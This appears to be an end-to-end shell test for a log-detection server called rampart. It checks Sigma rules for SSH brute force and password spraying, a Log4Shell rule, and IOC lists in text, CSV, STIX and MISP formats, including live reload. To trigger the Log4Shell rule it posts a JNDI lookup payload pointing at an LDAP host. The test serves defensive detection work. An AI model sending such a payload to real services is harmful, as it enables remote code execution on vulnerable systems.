# `rampart serve` with detection on: every ingested event is matched against the Sigma
# pack (rules/sigma) and the IOC lists of a directory, and the detections are stored where
# `rampart detections` finds them, each pointing at its stored event.
#
#   1. 12 sshd attempts for distinct invalid users from 198.51.100.23 over syslog TCP
#      (each an "Invalid user" line and a "Failed password for invalid user" line, as sshd
#      writes them) -> 12 x rampart_sshd_invalid_user, 1 x rampart_sshd_brute_force
#      (event_count >= 10 per source.ip; firing resets the window, so attempts 11 and 12 do
#      not fire again) and 2 x rampart_sshd_password_spraying (value_count >= 5: at the 5th
#      and the 10th user), and 4 x rampart_sshd_repeated_failures (fail2ban's threshold,
#      5 failure lines in 10 min: the 24 lines fire at the 5th, 10th, 15th and 20th). A Body
#      Log record POSTed to /v1/ingest with "${jndi:ldap://" in its body ->
#      rampart_bodylog_jndi.
#   2. IOC lists in all four formats (text, CSV, STIX 2.1, MISP), one IP each, plus entries
#      that must not load (an expired STIX indicator, a MISP attribute with to_ids false):
#      one IOC detection per listed IP, naming its list file, none for the others.
#   3. `rampart ioc reload` (SIGHUP) with the server running: a new list (an IP and a domain)
#      matches events sent after the reload and not the one sent before; a reload that
#      fails (a list that is not JSON) keeps the previous lists.
#   4. `rampart ioc check`: counts per file, exit 0; a bad line exits 3 naming file:line.
source "$(dirname "$0")/lib.sh"
command -v logger >/dev/null || skip "logger (bsdutils) missing"
command -v curl >/dev/null || fail "curl missing (scripts/install-deps installs it)"
command -v sqlite3 >/dev/null || fail "sqlite3 missing (scripts/install-deps installs it)"

BRUTE_FORCE=8e3282d1-c51e-4acd-9d6e-039d58219106  # rampart_sshd_brute_force
SPRAYING=d915ed04-5327-40c5-9e87-613734dfc4eb     # rampart_sshd_password_spraying
REPEATED=8e13e670-beae-496d-986a-f68539cfdb5b     # rampart_sshd_repeated_failures
INVALID_USER=9e4f8f36-3735-4f7d-9e30-77e97b99881e # rampart_sshd_invalid_user
FAILED_LOGIN=83b7b850-7009-4776-ad12-bb5045bfbc94 # rampart_sshd_failed_login (no alert)
JNDI=495f5bac-9666-41ac-947c-3f12a9406ac1         # rampart_bodylog_jndi
ATTACKER=198.51.100.23
D=$TMP/data
IOC=$TMP/ioc
LOG=$TMP/serve.log

# ---------------------------------------------------------------------------------------
# IOC lists, one format each. 203.0.113.31 (expired) and .32 (to_ids false) must not load.
mkdir -p "$IOC"
cat > "$IOC/plain.txt" <<'EOF'
# e2e plain text list
203.0.113.11   # plain-list host
EOF
cat > "$IOC/list.csv" <<'EOF'
indicator,type,description
203.0.113.12,ip,e2e csv entry
EOF
cat > "$IOC/stix.json" <<'EOF'
{"type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d", "objects": [
  {"type": "indicator", "spec_version": "2.1",
   "id": "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f",
   "created": "2020-01-01T00:00:00.000Z", "modified": "2020-01-01T00:00:00.000Z",
   "name": "e2e stix c2", "pattern": "[ipv4-addr:value = '203.0.113.13']",
   "pattern_type": "stix", "valid_from": "2020-01-01T00:00:00Z"},
  {"type": "indicator", "spec_version": "2.1",
   "id": "indicator--0b7e5b2a-8c1f-4bb4-a4a4-1f2d0c3e9a11",
   "created": "2020-01-01T00:00:00.000Z", "modified": "2020-01-01T00:00:00.000Z",
   "name": "e2e stix expired", "pattern": "[ipv4-addr:value = '203.0.113.31']",
   "pattern_type": "stix", "valid_from": "2020-01-01T00:00:00Z",
   "valid_until": "2021-01-01T00:00:00Z"}
]}
EOF
cat > "$IOC/misp.json" <<'EOF'
{"Event": {"info": "e2e", "Attribute": [
  {"type": "ip-src", "value": "203.0.113.14", "to_ids": true},
  {"type": "ip-dst", "value": "203.0.113.32", "to_ids": false}
]}}
EOF

# `ioc check`: one line per file with its format and counts; exit 0.
rc=0
"$RAMPART" ioc check "$IOC" > "$TMP/check.out" 2>&1 || rc=$?
[ $rc = 0 ] || { cat "$TMP/check.out"; fail "ioc check $IOC exited $rc, expected 0"; }
for want in 'plain\.txt \(text\): 1 indicator \(ipv4 1\)' 'list\.csv \(csv\): 1 indicator \(ipv4 1\)' \
  'stix\.json \(stix\): 1 indicator \(ipv4 1\).*skipped 1 \(expired\)' \
  'misp\.json \(misp\): 1 indicator \(ipv4 1\).*skipped 1' '^4 indicator\(s\), 0 rejected$'; do
  grep -Eq "$want" "$TMP/check.out" || { cat "$TMP/check.out"; fail "ioc check output lacks /$want/"; }
done
# A list with a bad line: exit 3 (partial), naming file:line.
mkdir -p "$TMP/badlists"
printf '# bad list\n203.0.113.41\nnot_an_indicator\n' > "$TMP/badlists/bad.txt"
rc=0
"$RAMPART" ioc check "$TMP/badlists/bad.txt" > "$TMP/check-bad.out" 2>&1 || rc=$?
[ $rc = 3 ] || { cat "$TMP/check-bad.out"; fail "ioc check of a list with a bad line exited $rc, expected 3"; }
grep -q 'bad\.txt:3: .*not_an_indicator' "$TMP/check-bad.out" \
  || { cat "$TMP/check-bad.out"; fail "ioc check does not name bad.txt:3 and the offending text"; }
grep -q 'bad\.txt (text): 1 indicator (ipv4 1).*1 rejected' "$TMP/check-bad.out" \
  || { cat "$TMP/check-bad.out"; fail "ioc check does not count bad.txt's good and bad lines"; }

# ---------------------------------------------------------------------------------------
# The server, detection configured in the YAML file.
TCP=$(free_port); HTTP=$(free_port)
cat > "$TMP/rampart.yaml" <<YAML
data_dir: $D
inputs:
  syslog: {udp: "", tcp: "127.0.0.1:$TCP"}
  http: {listen: "127.0.0.1:$HTTP"}
queue: {flush_interval_ms: 50}
detection: {rules: [$SRC/rules/sigma], ioc: $IOC}
web: {enabled: false}            # this test counts Sigma and IOC detections only
behavior: {enabled: false}
YAML
"$RAMPART" serve --config "$TMP/rampart.yaml" 2> "$LOG" &
SERVER_PID=$!
wait_for 60 curl -sf "http://127.0.0.1:$HTTP/v1/health" || { cat "$LOG"; fail "server did not start"; }
wait_for 10 test -s "$D/admin.token" || { cat "$LOG"; fail "server wrote no $D/admin.token"; }
TOKEN=$(cat "$D/admin.token")
grep -Eq 'detection: [1-9][0-9]* rule\(s\), [1-9][0-9]* correlation\(s\), 0 refused, .*[^0-9]4 indicator\(s\)' "$LOG" \
  || { cat "$LOG"; fail "serve did not report the rule pack and 4 indicators loaded"; }

# --- helpers ------------------------------------------------------------------------------
dets() { "$RAMPART" detections --data "$D" --limit 0 --json "$@"; }
# at_least N ARGS...: `rampart detections ARGS` lists N or more detections.
at_least() { local n=$1; shift; [ "$(dets "$@" | grep -c . || true)" -ge "$n" ]; }
post() {  # post NDJSON: POSTs stdin to /v1/ingest and expects 202 with all lines accepted
  local body code lines
  body=$(cat)
  lines=$(printf '%s\n' "$body" | grep -c .)
  code=$(printf '%s\n' "$body" | curl -s -o "$TMP/resp" -w '%{http_code}' -X POST \
    -H "Authorization: Bearer $TOKEN" --data-binary @- "http://127.0.0.1:$HTTP/v1/ingest")
  [ "$code" = 202 ] || fail "POST answered $code: $(cat "$TMP/resp")"
  grep -q "\"accepted\":$lines" "$TMP/resp" || fail "POST of $lines records: $(cat "$TMP/resp")"
}
NOW=$(date -u +%Y-%m-%dT%H:%M:%SZ)
bodylog() {  # bodylog IP HOST URI [REQUEST_BODY_JSON_STRING]
  printf '{"time":"%s","remote_addr":"%s","remote_port":"50000","host":"%s","method":"POST","uri":"%s","protocol":"HTTP/1.1","status":200,"body_bytes_sent":12,"user_agent":"e2e-agent/1.0","content_type":"application/json","request_body":%s}\n' \
    "$NOW" "$1" "$2" "$3" "${4:-\"\"}"
}
# Checks the stored detections with Python; `$1` is the check, stdin the JSON lines.
check() { python3 "$TMP/check.py" "$D" "$@"; }
cat > "$TMP/check.py" <<'PY'
import json, subprocess, sys

data_dir, what = sys.argv[1], sys.argv[2]
args = sys.argv[3:]
dets = []
for n, line in enumerate(sys.stdin, 1):
    if line.strip():
        try:
            dets.append(json.loads(line))
        except ValueError:
            sys.exit("FAIL: detections --json line %d is not JSON: %r" % (n, line[:200]))


def fail(msg):
    sys.exit("FAIL: " + msg)


def raw(ref, who):
    """The stored raw record an event reference points at (sqlite3 CLI, as a user would)."""
    loc, rowid = ref.get("location"), ref.get("rowid")
    if not loc or not isinstance(rowid, int) or rowid <= 0:
        fail("%s: event reference %r has no location/rowid" % (who, ref))
    out = subprocess.run(["sqlite3", "%s/%s" % (data_dir, loc),
                          "SELECT raw FROM events WHERE rowid=%d" % rowid],
                         capture_output=True, text=True)
    if out.returncode != 0 or not out.stdout.strip():
        fail("%s: %s rowid %d does not resolve to a stored event: %s" %
             (who, loc, rowid, out.stderr.strip()))
    return out.stdout


def evidence(d):
    return {e["field"]: e["value"] for e in d.get("evidence", [])}


def by_rule(rule_id):
    return [d for d in dets if d["rule"]["id"] == rule_id]


def expect_raw(d, ref, needles, who):
    r = raw(ref, who)
    for needle in needles:
        if needle not in r:
            fail("%s: stored event %s#%d is %r, expected it to contain %r" %
                 (who, ref["location"], ref["rowid"], r.strip()[:300], needle))


if what == "ssh":  # args: brute-force, spraying, invalid-user, failed-login ids, attacker
    bf, sp, iu, fl, ip = args
    got = by_rule(bf)
    if len(got) != 1:
        fail("expected 1 brute-force correlation, got %d: %s" % (len(got), got))
    d = got[0]
    if d["kind"] != "correlation" or d["rule"]["level"] != "high":
        fail("brute force: kind %r level %r" % (d["kind"], d["rule"]["level"]))
    ev = evidence(d)
    if ev.get("source.ip") != ip or ev.get("event_count") != "10":
        fail("brute force evidence %r, expected source.ip=%s event_count=10" % (d["evidence"], ip))
    if len(d.get("related", [])) != 10:
        fail("brute force lists %d related events, expected the 10 attempts" % len(d.get("related", [])))
    if d["related"][-1] != d["event"]:
        fail("brute force: event %r is not the last related event %r" % (d["event"], d["related"][-1]))
    users = set()
    for i, ref in enumerate(d["related"]):
        r = raw(ref, "brute force related[%d]" % i)
        if "Failed password for invalid user e2euser" not in r or ip not in r:
            fail("brute force related[%d] is %r, not a failed attempt from %s" % (i, r.strip(), ip))
        users.add(r.split("invalid user ")[1].split()[0])
    if len(users) != 10:
        fail("brute force related events are not 10 distinct attempts: %s" % sorted(users))
    got = by_rule(sp)
    if len(got) != 2 or any(evidence(x).get("source.ip") != ip for x in got):
        fail("expected 2 password-spraying correlations for %s (5th and 10th user), got %s" %
             (ip, [(x["evidence"]) for x in got]))
    for x in got:
        expect_raw(x, x["event"], ["Failed password for invalid user e2euser"], "spraying")
    got = by_rule(iu)
    if len(got) != 12:
        fail("expected 12 invalid-user detections, got %d" % len(got))
    seen = set()
    for x in got:
        if x["kind"] != "sigma" or x["rule"]["level"] != "low" or x["dataset"] != "linux.auth":
            fail("invalid user: kind %r level %r dataset %r" % (x["kind"], x["rule"]["level"], x["dataset"]))
        msg = evidence(x).get("message", "")
        if not msg.startswith("Invalid user e2euser") or ip not in msg:
            fail("invalid user evidence %r" % x["evidence"])
        expect_raw(x, x["event"], [msg], "invalid user")
        seen.add(msg.split()[2])
    if len(seen) != 12:
        fail("invalid-user detections do not cover 12 distinct users: %s" % sorted(seen))
    if by_rule(fl):
        fail("rampart_sshd_failed_login alerted on its own (generate: false): %d" % len(by_rule(fl)))
elif what == "jndi":  # args: rule id
    got = by_rule(args[0])
    if len(got) != 1:
        fail("expected 1 Body Log JNDI detection, got %d" % len(got))
    d = got[0]
    if d["kind"] != "sigma" or d["dataset"] != "nginx.body" or d["rule"]["level"] != "high":
        fail("jndi: kind %r dataset %r level %r" % (d["kind"], d["dataset"], d["rule"]["level"]))
    if "${jndi:ldap://" not in evidence(d).get("http.request.body.content", ""):
        fail("jndi evidence %r" % d["evidence"])
    expect_raw(d, d["event"], ["${jndi:ldap://", "/e2e-jndi"], "jndi")
elif what == "ioc":  # args: VALUE=FILE=URI[,URI...]: exactly one IOC detection per URI
    want = {}
    for a in args:
        value, source, uris = a.split("=")
        want[value] = (source, uris.split(","))
    got = {}
    for d in dets:
        if d["kind"] != "ioc":
            fail("--kind ioc listed a %r detection" % d["kind"])
        got.setdefault(d["rule"]["id"].split(":", 2)[2], []).append(d)
    if set(got) != set(want):
        fail("IOC detections for %s, expected exactly %s" % (sorted(got), sorted(want)))
    for value, (source, uris) in want.items():
        itype = "domain" if not value[0].isdigit() else "ipv4"
        field = "url.domain" if itype == "domain" else "source.ip"
        seen = []
        for d in got[value]:
            if d["rule"]["id"] != "ioc:%s:%s" % (itype, value):
                fail("IOC rule id %r" % d["rule"]["id"])
            if d["source"] != source:
                fail("IOC %s: source %r, expected the list file %r" % (value, d["source"], source))
            if d["rule"]["level"] != "high" or "(%s)" % source not in d["rule"]["title"]:
                fail("IOC %s: level %r title %r" % (value, d["rule"]["level"], d["rule"]["title"]))
            ev = evidence(d)
            if field not in ev or not ev[field].endswith(value):
                fail("IOC %s: evidence %r, expected %s" % (value, d["evidence"], field))
            r = raw(d["event"], "IOC %s" % value)
            hit = [u for u in uris if '"uri":"%s"' % u in r]
            if len(hit) != 1:
                fail("IOC %s: detection's stored event %r is none of the events sent for it (%s)" %
                     (value, r.strip()[:300], ", ".join(uris)))
            seen.append(hit[0])
        if sorted(seen) != sorted(uris):
            fail("IOC %s: detections for the events %s, expected one for each of %s" %
                 (value, sorted(seen), sorted(uris)))
elif what == "only":  # args: field=value the listing must consist of (kind=..., id=..., min_level=...)
    order = ["informational", "low", "medium", "high", "critical"]
    for a in args:
        k, v = a.split("=", 1)
        for d in dets:
            if k == "kind" and d["kind"] != v or k == "id" and d["rule"]["id"] != v or \
               k == "min_level" and order.index(d["rule"]["level"]) < order.index(v):
                fail("listing for %s has %r" % (a, json.dumps(d)[:300]))
    if not dets:
        fail("listing for %s is empty" % args)
elif what == "count":  # args: N
    if len(dets) != int(args[0]):
        fail("expected %s detections, listed %d" % (args[0], len(dets)))
elif what == "select":  # args: level; prints the rule ids at or above it, sorted (for comparison)
    order = ["informational", "low", "medium", "high", "critical"]
    print("\n".join(sorted(d["rule"]["id"] for d in dets
                           if order.index(d["rule"]["level"]) >= order.index(args[0]))))
PY

# ---------------------------------------------------------------------------------------
# 1a. SSH attempts over syslog TCP, as sshd logs them.
for i in $(seq 1 12); do
  port=$((40000 + i))
  logger --server 127.0.0.1 --port "$TCP" --tcp -t sshd -p authpriv.info \
    "Invalid user e2euser$i from $ATTACKER port $port"
  logger --server 127.0.0.1 --port "$TCP" --tcp -t sshd -p authpriv.info \
    "Failed password for invalid user e2euser$i from $ATTACKER port $port ssh2"
done
# 1b. A Body Log record with a Log4Shell lookup in its JSON body (literal ${...}).
# shellcheck disable=SC2016
bodylog 192.0.2.50 shop.example.com /e2e-jndi \
  '"{\"nickname\": \"${jndi:ldap://198.51.100.99:1389/a}\"}"' | post

wait_for 20 at_least 12 --rule "$INVALID_USER" || { dets; fail "12 invalid-user detections did not appear"; }
wait_for 20 at_least 1 --rule "$BRUTE_FORCE" || { dets; cat "$LOG"; fail "no SSH brute-force detection"; }
wait_for 20 at_least 2 --rule "$SPRAYING" || { dets; fail "fewer than 2 password-spraying detections"; }
wait_for 20 at_least 1 --rule "$JNDI" || { dets; fail "no Body Log JNDI detection"; }
dets | check ssh "$BRUTE_FORCE" "$SPRAYING" "$INVALID_USER" "$FAILED_LOGIN" "$ATTACKER"
dets | check jndi "$JNDI"

# ---------------------------------------------------------------------------------------
# 2. One event per IP (the ones that must not match first: processing is in order, so
#    when the last listed IP's detection is there, all of them have been matched).
{
  bodylog 203.0.113.31 shop.example.com /ioc/expired-stix
  bodylog 203.0.113.32 shop.example.com /ioc/misp-not-to-ids
  bodylog 203.0.113.11 shop.example.com /ioc/plain
  bodylog 203.0.113.12 shop.example.com /ioc/csv
  bodylog 203.0.113.13 shop.example.com /ioc/stix
  bodylog 203.0.113.14 shop.example.com /ioc/misp
} | post
wait_for 20 at_least 4 --kind ioc || { dets --kind ioc; fail "4 IOC detections did not appear"; }
dets --kind ioc | check ioc 203.0.113.11=plain.txt=/ioc/plain 203.0.113.12=list.csv=/ioc/csv \
  203.0.113.13=stix.json=/ioc/stix 203.0.113.14=misp.json=/ioc/misp

# ---------------------------------------------------------------------------------------
# 3. Reload without restart. First an event for the indicators of the list that does not
#    exist yet, then a sentinel that does match: once its detection is stored, the first
#    event has been matched (with the old lists).
bodylog 203.0.113.21 cdn.e2e-evil.example /before-reload | post
bodylog 203.0.113.11 shop.example.com /sentinel-1 | post
wait_for 20 at_least 2 --rule ioc:ipv4:203.0.113.11 || { dets --kind ioc; fail "sentinel IOC detection did not appear"; }
[ "$(dets --rule ioc:ipv4:203.0.113.21 2>/dev/null | grep -c . || true)" = 0 ] \
  || fail "203.0.113.21 matched before it was listed: $(dets --rule ioc:ipv4:203.0.113.21)"
[ "$(dets --rule ioc:domain:e2e-evil.example 2>/dev/null | grep -c . || true)" = 0 ] \
  || fail "e2e-evil.example matched before it was listed"

printf '# added while serve runs\n203.0.113.21\ne2e-evil.example\n' > "$IOC/late.txt"
rc=0; "$RAMPART" ioc reload --data "$D" > "$TMP/reload.out" 2>&1 || rc=$?
[ $rc = 0 ] || { cat "$TMP/reload.out"; fail "ioc reload exited $rc"; }
grep -q "pid $SERVER_PID" "$TMP/reload.out" || fail "ioc reload did not signal pid $SERVER_PID: $(cat "$TMP/reload.out")"
wait_for 10 grep -q 'IOC lists reloaded: 6 indicator(s), 0 rejected' "$LOG" \
  || { cat "$LOG"; fail "serve did not log the reload of 6 indicators"; }
kill -0 "$SERVER_PID" 2>/dev/null || fail "serve exited on SIGHUP"

bodylog 203.0.113.21 shop.example.com /after-reload | post
bodylog 192.0.2.61 cdn.e2e-evil.example /after-reload-domain | post
wait_for 20 at_least 1 --rule ioc:ipv4:203.0.113.21 || { dets --kind ioc; cat "$LOG"; fail "no IOC detection for 203.0.113.21 after the reload"; }
wait_for 20 at_least 1 --rule ioc:domain:e2e-evil.example \
  || { dets --kind ioc; fail "no IOC detection for the domain e2e-evil.example (url.domain cdn.e2e-evil.example) after the reload"; }
dets --kind ioc | check ioc 203.0.113.11=plain.txt=/ioc/plain,/sentinel-1 \
  203.0.113.12=list.csv=/ioc/csv 203.0.113.13=stix.json=/ioc/stix 203.0.113.14=misp.json=/ioc/misp \
  203.0.113.21=late.txt=/after-reload e2e-evil.example=late.txt=/after-reload-domain

# A reload that fails (a list that is not JSON) keeps the lists in use.
printf '{"type": "bundle", "objects": [' > "$IOC/broken.json"
rc=0; "$RAMPART" ioc check "$IOC" > "$TMP/check-broken.out" 2>&1 || rc=$?
[ $rc = 2 ] || { cat "$TMP/check-broken.out"; fail "ioc check of a directory with invalid JSON exited $rc, expected 2"; }
grep -q broken.json "$TMP/check-broken.out" || fail "ioc check does not name broken.json: $(cat "$TMP/check-broken.out")"
"$RAMPART" ioc reload --data "$D" > /dev/null || fail "second ioc reload failed"
wait_for 10 grep -q 'IOC reload failed, previous lists kept: .*broken.json' "$LOG" \
  || { cat "$LOG"; fail "serve did not log the failed reload naming broken.json"; }
bodylog 203.0.113.21 shop.example.com /after-failed-reload | post
wait_for 20 at_least 2 --rule ioc:ipv4:203.0.113.21 \
  || { dets --kind ioc; fail "the lists were dropped by a failed reload (no match for 203.0.113.21)"; }
rm -f "$IOC/broken.json"

# ---------------------------------------------------------------------------------------
# rampart detections: table, --rule (id and title), '--level>=high', --kind.
"$RAMPART" detections --data "$D" --limit 0 > "$TMP/table.out" || fail "detections (table) exited $?"
head -1 "$TMP/table.out" | grep -Eq '^time +level +kind +rule +rule\.id +dataset +tenant +evidence' \
  || { head -3 "$TMP/table.out"; fail "detections table header"; }
grep -Eq "high +correlation +SSH Brute Force From One Source +$BRUTE_FORCE +linux\.auth +default +source\.ip=$ATTACKER, event_count=10" "$TMP/table.out" \
  || { cat "$TMP/table.out"; fail "detections table lacks the brute-force row"; }
grep -Eq "low +sigma +SSH Login Attempt For An Unknown User +$INVALID_USER .*message=Invalid user e2euser7 from" "$TMP/table.out" \
  || { cat "$TMP/table.out"; fail "detections table lacks the invalid-user rows"; }
grep -Eq "high +sigma +Log4Shell JNDI Lookup In A Request Body +$JNDI +nginx\.body" "$TMP/table.out" \
  || { cat "$TMP/table.out"; fail "detections table lacks the JNDI row"; }
grep -Eq "high +ioc +IOC ipv4 203\.0\.113\.13 \(stix\.json\) +ioc:ipv4:203\.0\.113\.13 +nginx\.body +default +source\.ip=203\.0\.113\.13" "$TMP/table.out" \
  || { cat "$TMP/table.out"; fail "detections table lacks the STIX IOC row"; }

dets --rule "$BRUTE_FORCE" | check only "id=$BRUTE_FORCE"
dets --rule "$BRUTE_FORCE" | check count 1
dets --rule "log4shell jndi lookup in a REQUEST BODY" | check only "id=$JNDI"
dets --rule "$INVALID_USER" | check count 12
dets --kind correlation | check only kind=correlation
dets --rule "$REPEATED" | check count 4
dets --kind correlation | check count 7
dets --kind sigma | check count 13
dets --kind ioc | check ioc 203.0.113.11=plain.txt=/ioc/plain,/sentinel-1 \
  203.0.113.12=list.csv=/ioc/csv 203.0.113.13=stix.json=/ioc/stix 203.0.113.14=misp.json=/ioc/misp \
  203.0.113.21=late.txt=/after-reload,/after-failed-reload e2e-evil.example=late.txt=/after-reload-domain
dets --kind ioc | check count 8
dets "--level>=high" | check only min_level=high
dets "--level>=high" > "$TMP/high.jsonl" || fail "'--level>=high' exited $?"
dets > "$TMP/all.jsonl"
check select high < "$TMP/all.jsonl" > "$TMP/high.want"
check select informational < "$TMP/high.jsonl" > "$TMP/high.got"
cmp -s "$TMP/high.want" "$TMP/high.got" \
  || { diff "$TMP/high.want" "$TMP/high.got"; fail "'--level>=high' differs from the high/critical detections of the full listing"; }
rc=0; "$RAMPART" detections --data "$D" --kind bogus > /dev/null 2>&1 || rc=$?
[ $rc = 2 ] || fail "--kind bogus exited $rc, expected 2"

# Everything that was stored, and nothing else: 12 + 1 + 2 + 4 + 1 sigma/correlation detections
# and 8 IOC detections (.11 x2, .12, .13, .14, .21 x2, the domain).
check count 28 < "$TMP/all.jsonl"

kill -TERM "$SERVER_PID"; wait "$SERVER_PID" || { cat "$LOG"; fail "serve did not stop cleanly"; }
SERVER_PID=
grep -q 'rampart serve: 28 detection(s) stored' "$LOG" || { cat "$LOG"; fail "serve's detection count at exit"; }
# A misspelt detection key and a configured rule path that does not exist are errors, not
# a server that silently runs without rules.
printf 'detection:\n  rule: [x]\n' >"$TMP/bad1.yaml"
rc=0; "$RAMPART" serve --config "$TMP/bad1.yaml" --check-config 2>"$TMP/bad.err" || rc=$?
[ "$rc" = 2 ] && grep -q "unknown key 'detection.rule'" "$TMP/bad.err" || fail "bad detection key: $rc $(cat "$TMP/bad.err")"
printf 'data_dir: %s\ndetection:\n  rules: [%s]\n' "$TMP/bad-data" "$TMP/no-rules" >"$TMP/bad2.yaml"
rc=0; timeout 10 "$RAMPART" serve --config "$TMP/bad2.yaml" 2>"$TMP/bad.err" || rc=$?
[ "$rc" = 2 ] && grep -q "rule path not found" "$TMP/bad.err" || fail "missing rules: $rc $(cat "$TMP/bad.err")"
echo "ok: serve stored 28 detections (SSH brute force/spraying/repeated failures/invalid user over syslog, Body Log JNDI over HTTP, IOC text/CSV/STIX/MISP), each pointing at its stored event; IOC reload via SIGHUP took effect without restart, a failed reload kept the lists"
